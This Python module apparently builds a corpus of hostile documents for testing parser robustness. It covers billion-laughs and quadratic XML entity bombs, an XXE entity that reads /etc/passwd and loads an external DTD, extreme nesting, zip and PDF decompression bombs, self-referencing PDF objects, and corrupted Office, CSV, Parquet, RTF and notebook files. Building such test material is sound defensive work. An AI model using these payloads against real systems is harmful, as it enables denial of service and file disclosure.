"""Documents whose content is the weapon: entities, nesting, repetition, loops. One function for each family."""

import itertools
import struct
import zlib

from hostile_archives import Part, archive, part, repeated, stored

W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
O = (
    b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')
# In archives, and as it is.
DEEP, DEEP_PLAIN = 1_000_000, 150_000

LAUGHS = b'<!DOCTYPE lol [<!ENTITY l0 "laugh">' + b"".join(
    b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 11)) + b"]>"
QUADRATIC = b'<!DOCTYPE lol [<!ENTITY long "' + b"laugh" * 50_000 + b'">]>'
ENTITY_LOOP = b'<!DOCTYPE a [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
OUTSIDE = (
    b'<!DOCTYPE lol [<!ENTITY outside SYSTEM "file:///etc/passwd"><!ENTITY % far SYSTEM "http://192.0.2.1/far.dtd">'
    b"%far;]>")


# Each makes a whole document around what stands in its main part.

def relationships(*targets):
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + "".join(
            f'<Relationship Id="r{number}" Type="{kinds}{kind}" Target="{target}"/>'
            for number, (kind, target) in enumerate(targets)) + "</Relationships>").encode()


def content_types(main, kind):
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{main}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/>'
        "</Types>").encode()


def docx_of(*parts):
    return archive(
        part("[Content_Types].xml", content_types("word/document.xml", "wordprocessingml.document")),
        part("_rels/.rels", relationships(("officeDocument", "word/document.xml"))), *parts)


def docx(body, before=b""):
    return docx_of(part("word/document.xml", before + b"<w:document %s><w:body>%s</w:body></w:document>" % (W, body)))


def xlsx_of(*parts):
    return archive(
        part("[Content_Types].xml", content_types("xl/workbook.xml", "spreadsheetml.sheet")),
        part("_rels/.rels", relationships(("officeDocument", "xl/workbook.xml"))),
        part("xl/workbook.xml", b'<workbook %s %s><sheets><sheet name="One" sheetId="1" r:id="r0"/></sheets></workbook>'
             % (S, R)),
        part("xl/_rels/workbook.xml.rels", relationships(
            ("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml"))), *parts)


def xlsx(rows, before=b"", shared=b""):
    return xlsx_of(
        part("xl/worksheets/sheet1.xml",
             before + b"<worksheet %s><sheetData>%s</sheetData></worksheet>" % (S, rows)),
        part("xl/sharedStrings.xml", b'<sst %s count="4294967295" uniqueCount="4294967295">%s</sst>' % (S, shared)))


def pptx(text, before=b"", slides=1):
    names = (
        b'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
        b'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"')
    listed = b"".join(b'<p:sldId id="%d" r:id="r%d"/>' % (256 + number, number) for number in range(slides))
    slide = b"%s<p:sld %s><p:cSld><p:spTree><p:sp><p:txBody>%s</p:txBody></p:sp></p:spTree></p:cSld></p:sld>" % (
        before, names, text)
    return archive(
        part("[Content_Types].xml", content_types("ppt/presentation.xml", "presentationml.presentation")),
        part("_rels/.rels", relationships(("officeDocument", "ppt/presentation.xml"))),
        part("ppt/presentation.xml", b"<p:presentation %s %s><p:sldIdLst>%s</p:sldIdLst></p:presentation>" % (
            names, R, listed)),
        part("ppt/_rels/presentation.xml.rels", relationships(*[("slide", "slides/slide0.xml")] * slides)),
        part("ppt/slides/slide0.xml", slide))


def open_document(kind, body, before=b""):
    element = {"text": b"text", "spreadsheet": b"spreadsheet", "presentation": b"presentation"}[kind]
    return archive(
        stored("mimetype", f"application/vnd.oasis.opendocument.{kind}".encode()),
        part("content.xml", before + b"<office:document-content %s><office:body><office:%s>%s</office:%s></office:body>"
             b"</office:document-content>" % (O, element, body, element)))


def epub(page, before=b"", spine=1):
    items = b'<itemref idref="page"/>' * spine
    return archive(
        stored("mimetype", b"application/epub+zip"),
        part("META-INF/container.xml", b'<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
             b'<rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'),
        part("book.opf", b'<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="page" href="page.xhtml" '
             b'media-type="application/xhtml+xml"/></manifest><spine>%s</spine></package>' % items),
        part("page.xhtml", before + b'<html xmlns="http://www.w3.org/1999/xhtml"><body>%s</body></html>' % page))


def paragraph(text):
    return b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


def entities():
    for word, before, body in (
            ("billion-laughs", LAUGHS, b"&l10;"), ("quadratic", QUADRATIC, b"&long;" * 50_000),
            ("outside", OUTSIDE, b"&outside;"), ("entity-loop", ENTITY_LOOP, b"&a;")):
        yield f"{word}.docx", docx(paragraph(body), before)
        yield f"{word}.xlsx", xlsx(b'<row><c t="inlineStr"><is><t>%s</t></is></c></row>' % body, before)
        yield f"{word}.pptx", pptx(b"<a:p><a:r><a:t>%s</a:t></a:r></a:p>" % body, before)
        yield f"{word}.odt", open_document("text", b"<text:p>%s</text:p>" % body, before)
        yield f"{word}.epub", epub(b"<p>%s</p>" % body, before)
        yield f"{word}.html", before + b"<html><body><p>%s</p></body></html>" % body


def lying_parts():
    body = b"<w:document %s><w:body>%s</w:body></w:document>" % (W, paragraph(b"lamp"))
    for word, lie in (
            ("to-be-empty", {"size": 0}), ("4-gigabytes", {"size": 0xFFFFFFFE}), ("another-sum", {"crc": 0}),
            ("to-be-encrypted", {"flags": 1}), ("to-be-packed-unusually", {"method": 93})):
        yield f"claims-{word}.docx", docx_of(part("word/document.xml", body, **lie))
    main = part("word/document.xml", body)
    yield "same-part-1000-times.docx", docx_of(*[main] * 1000)
    yield "parts-20000.docx", docx_of(main, *(stored(f"{number}", b"") for number in range(20_000)))


def nesting():
    yield "deep.docx", docx(b"<w:tbl><w:tr><w:tc>" * DEEP + paragraph(b"lamp"))
    yield "deep-and-closed.docx", docx(b"<w:sdt>" * DEEP + paragraph(b"lamp") + b"</w:sdt>" * DEEP)
    yield "deep.xlsx", xlsx(b"<row><c><is>" * DEEP)
    yield "deep.pptx", pptx(b"<p:grpSp>" * DEEP)
    yield "deep.odt", open_document("text", b"<text:section>" * DEEP + b"<text:p>lamp</text:p>")
    yield "deep.ods", open_document("spreadsheet", b"<table:table>" * DEEP)
    yield "deep.epub", epub(b"<div>" * DEEP + b"lamp")
    yield "deep.html", b"<html><body>" + b"<div><b>" * DEEP_PLAIN + b"lamp"
    yield "deep-lists.html", b"<ul><li>" * DEEP_PLAIN + b"lamp"
    yield "deep.rtf", b"{\\rtf1 " + b"{" * DEEP_PLAIN + b"lamp" + b"}" * DEEP_PLAIN + b"}"
    yield "deep-not-closed.rtf", b"{\\rtf1" + b"{\\*\\a" * DEEP_PLAIN
    yield "deep.ipynb", b'{"cells": ' + b"[" * DEEP_PLAIN + b"]" * DEEP_PLAIN + b', "nbformat": 4, "nbformat_minor": 5}'
    yield "deep-objects.ipynb", b'{"cells": [], "metadata": ' + b'{"a":' * DEEP_PLAIN
    yield "deep.md", b"> " * DEEP_PLAIN + b"lamp\n" + b"- " * 10_000 + b"lamp\n"


def repetition():
    words = paragraph(b"The lamp of Visby. " * 1000)
    huge = repeated(b"<w:document %s><w:body>" % W, words * 50, 1100, b"</w:body></w:document>")
    yield "bomb-1-gigabyte.docx", docx_of(Part("word/document.xml", *huge))
    yield "bomb-zeros.docx", docx_of(Part("word/document.xml", *repeated(b"", bytes(1 << 20), 1024)))
    row = b"<row>" + b'<c t="inlineStr"><is><t>lamp</t></is></c>' * 1000 + b"</row>"
    huge = repeated(b"<worksheet %s><sheetData>" % S, row * 25, 1000, b"</sheetData></worksheet>")
    yield "bomb-1-gigabyte.xlsx", xlsx_of(
        Part("xl/worksheets/sheet1.xml", *huge), part("xl/sharedStrings.xml", b"<sst %s/>" % S))
    shared = b"<si><t>" + b"lamp " * 200_000 + b"</t></si>"
    cells = b'<row><c t="s"><v>0</v></c></row>' * 100_000
    yield "bomb-100-gigabytes-of-one-shared-text.xlsx", xlsx(cells, shared=shared)
    yield "one-slide-50000-times.pptx", pptx(b"<a:p><a:r><a:t>lamp</a:t></a:r></a:p>", slides=50_000)
    yield "one-page-100000-times.epub", epub(b"<p>" + b"lamp " * 20_000 + b"</p>", spine=100_000)
    cell = b'<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>lamp</text:p>'
    sheet = (
        b'<table:table table:name="One"><table:table-row table:number-rows-repeated="1048576">' + cell +
        b"</table:table-cell></table:table-row></table:table>")
    yield "bomb-repeated-cells.ods", open_document("spreadsheet", sheet)
    yield "bomb-repeated-beyond-numbers.ods", open_document(
        "spreadsheet", sheet.replace(b"1048576", b"99999999999999999999").replace(b"16384", b"-5"))
    yield "bomb-blanks.odt", open_document("text", b'<text:p>a<text:s text:c="2147483647"/>b</text:p>' * 100)
    yield "last-cell.xlsx", xlsx(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    yield "cells-nowhere.xlsx", xlsx(b"".join(
        b'<row r="%s"><c r="%s" t="s"><v>%s</v></c></row>' % (row, cell, index) for row, cell, index in (
            (b"0", b"A0", b"99999999"), (b"-1", b"A-1", b"-1"), (b"99999999999999999999", b"ZZZZZZZZZZZZ1", b"1e300"),
            (b"", b"", b""), (b"5", b"XFE4", b"0x10"), (b"2", b"\xef\xbc\xa11", b"NaN"))))
    kinds, values = (b"d", b"n", b"b", b"e", b"x"), (b"1e308", b"-1e308", b"9999999999999", b"inf", b"", b"2024-99-99")
    yield "values-of-no-kind.xlsx", xlsx(
        b"<row>" + b"".join(b'<c t="%s"><v>%s</v></c>' % cell for cell in itertools.product(kinds, values)) + b"</row>")


def pdf_of(*objects, trailer=b"/Root 1 0 R"):
    """A PDF of objects, counted from 1, with a table of where they are."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    trailer = trailer.replace(b"TABLE", b"%d" % table)
    return bytes(made + b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, table))


def stream(packed, more=b"/Filter/FlateDecode"):
    return b"<</Length %d %s>>\nstream\n%s\nendstream" % (len(packed), more, packed)


def pdf():
    catalog, font = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
    text = b"BT /F 12 Tf 50 700 Td (lamp) Tj ET\n"
    yield "pages-in-a-loop.pdf", pdf_of(catalog, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000000>>")
    yield "object-that-is-itself.pdf", pdf_of(catalog, b"2 0 R")
    yield "length-that-is-itself.pdf", pdf_of(
        catalog, pages, page, b"<</Length 4 0 R>>\nstream\n" + text + b"\nendstream", font)
    yield "tables-in-a-loop.pdf", pdf_of(
        catalog, pages, page, stream(text, b""), font, trailer=b"/Root 1 0 R/Prev TABLE")
    yield "deep.pdf", pdf_of(b"[" * DEEP_PLAIN, pages)
    yield "deep-content.pdf", pdf_of(catalog, pages, page, stream(b"q " * DEEP_PLAIN + text, b""), font)
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</X 4 0 R>>>>"
    drawing = page.replace(b"/Font<</F 5 0 R>>", b"/XObject<</X 4 0 R>>")
    yield "form-that-draws-itself.pdf", pdf_of(catalog, pages, drawing, stream(b"/X Do " * 100, form), font)
    raw, size, _ = repeated(b"", text * 3000, 5000)
    adler = struct.pack(">I", 1)
    yield "bomb-500-megabytes.pdf", pdf_of(catalog, pages, page, stream(b"\x78\xda" + raw + adler), font)
    twice = zlib.compress(b"\x78\xda" + repeated(b"", bytes(1 << 20), 5120)[0] + adler, 9)
    yield "bomb-in-a-bomb.pdf", pdf_of(
        catalog, pages, page, stream(twice, b"/Filter[/FlateDecode/FlateDecode]"), font)
    many = b"<</Type/Pages/Kids[" + b"3 0 R " * 100_000 + b"]/Count 100000>>"
    yield "one-page-100000-times.pdf", pdf_of(catalog, many, page, stream(text, b""), font)
    yield "large-page.pdf", pdf_of(
        catalog, pages, page.replace(b"600 800", b"1e30 1e30"), stream(text, b""), font)
    yield "header-only.pdf", b"%PDF-1.7\n"
    yield "end-only.pdf", b"%PDF-1.7\nstartxref\n99999999999999999999\n%%EOF"


def office_before_2007():
    """Containers whose tables of sectors lie."""
    magic = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

    def container(shift=9, tables=1, first=0):
        head = magic + bytes(16) + struct.pack("<HHHHH6x", 62, 3, 0xFFFE, shift, 6)
        head += struct.pack("<IIIIIIIIII", 0, tables, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, first)
        return head.ljust(512, b"\xff") + b"\xff" * 512

    for kind in ("doc", "xls", "ppt"):
        yield f"sectors-of-no-size.{kind}", container(shift=0xFFFF)
        yield f"a-billion-tables.{kind}", container(tables=0x7FFFFFFF, first=0x7FFFFFF0)
        yield f"only-the-header.{kind}", magic


def sectors_in_a_loop(content):
    """The same container, with each sector of its streams followed by itself; the directory is left as it was."""
    directory, first_table = struct.unpack_from("<I", content, 48)[0], struct.unpack_from("<I", content, 76)[0]
    start = 512 * (first_table + 1)
    table = struct.unpack_from("<128I", content, start)
    kept = set()
    while directory < len(table) and directory not in kept:
        kept.add(directory)
        directory = table[directory]
    looped = (
        sector if after == sector + 1 and sector not in kept else after for sector, after in enumerate(table))
    return content[:start] + struct.pack("<128I", *looped) + content[start + 512:]


def tables_as_text():
    yield "quote-without-end.csv", b'region,amount\n"' + b"Nord,1250 " * 1_000_000
    yield "one-long-line.csv", b"region" + b",amount" * 200_000
    yield "only-quotes.csv", b'"' * 1_000_001
    yield "only-delimiters.csv", b"a,b\n" + b"," * 1_000_000
    yield "columns-200000.tsv", b"\t".join(b"c%d" % number for number in range(200_000)) + b"\n1\t2\n"
    yield "only-line-ends.csv", b"region,amount\n" + b"\r" * 300_000 + b"\n" * 300_000
    yield "zeros.csv", b"region,amount\n" + bytes(100_000)
    yield "same-column-50000-times.csv", b"region," * 50_000 + b"\n" + b"Nord," * 50_000
    for size, word in ((0xFFFFFFFF, "beyond-the-beginning"), (0, "empty"), (8, "of-ones")):
        yield f"footer-{word}.parquet", b"PAR1" + b"\xff" * 64 + struct.pack("<I", size) + b"PAR1"
    yield "only-the-magic.parquet", b"PAR1PAR1"
    # A list of as many elements as there are numbers, in Thrift's compact protocol.
    footer = b"\x15\x02\x19\xfc" + b"\xff" * 4 + b"\x0f"
    yield "footer-with-a-billion-columns.parquet", b"PAR1" + footer + struct.pack("<I", len(footer)) + b"PAR1"


def pages_and_notes():
    yield "tag-without-end.html", b"<html><body><p lamp='" + b"a" * 1_000_000
    yield "comment-without-end.html", b"<html><body>lamp<!--" + b"-" * 1_000_000
    yield "script-without-end.html", b"<html><body>lamp<script>" + b"<script>" * 100_000
    yield "attributes-100000.html", b"<p " + b"".join(b"a%d=1 " % number for number in range(100_000)) + b">lamp"
    yield "open-tags.html", b"<" * 500_000
    yield "references.html", b"<p>&#99999999999999;&#xD800;&#0;&lamp;&" + b"#" * 100_000
    yield "lies-of-its-encoding.html", b'<meta charset="utf-16"><p>lamp \xff\xfe\xc3\x28</p>'
    yield "unknown-encoding.html", b'<meta charset="x-lamp-%s"><p>lamp</p>' % (b"a" * 10_000)
    yield "picture-in-an-object.rtf", b"{\\rtf1{\\*\\objdata " + b"ff" * 500_000 + b"}lamp}"
    yield "binary-beyond-the-end.rtf", b"{\\rtf1 lamp\\bin2147483647 lamp}"
    yield "binary-before-the-beginning.rtf", b"{\\rtf1 lamp\\bin-99999999999999999999 lamp}"
    yield "numbers.rtf", b"{\\rtf1\\uc99999999\\u-70000 a\\u99999999999 b\\'zz\\'9\\ansicpg99999 lamp}"
    yield "closed-too-often.rtf", b"{\\rtf1 lamp" + b"}" * 100_000
    yield "one-word.rtf", b"{\\rtf1\\" + b"a" * 1_000_000
    for word, cells in (
            ("no-list", b'{"cells": {}}'), ("numbers", b"[1, null, 1e999999, -0]"),
            ("no-source", b'[{"cell_type": "code"}]'),
            ("half-letters", b'[{"cell_type": "markdown", "source": ["\\ud800", "\\udc00\\u0000"]}]'),
            ("long-number", b'[{"cell_type": "code", "execution_count": ' + b"9" * 1_000_000 + b', "source": "lamp"}]'),
            ("other-types", b'[{"cell_type": [], "source": {"a": "lamp"}, "outputs": "lamp"}]')):
        yield f"cells-{word}.ipynb", b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": ' + cells + b"}"
    yield "text-without-end.ipynb", b'{"nbformat": 4, "cells": [{"source": "' + b"lamp\\" * 200_000
    yield "same-key-100000-times.ipynb", b'{"nbformat": 4' + b', "cells": []' * 100_000 + b"}"


def files():
    for family in (
            entities, lying_parts, nesting, repetition, pdf, office_before_2007, tables_as_text, pages_and_notes):
        yield from family()
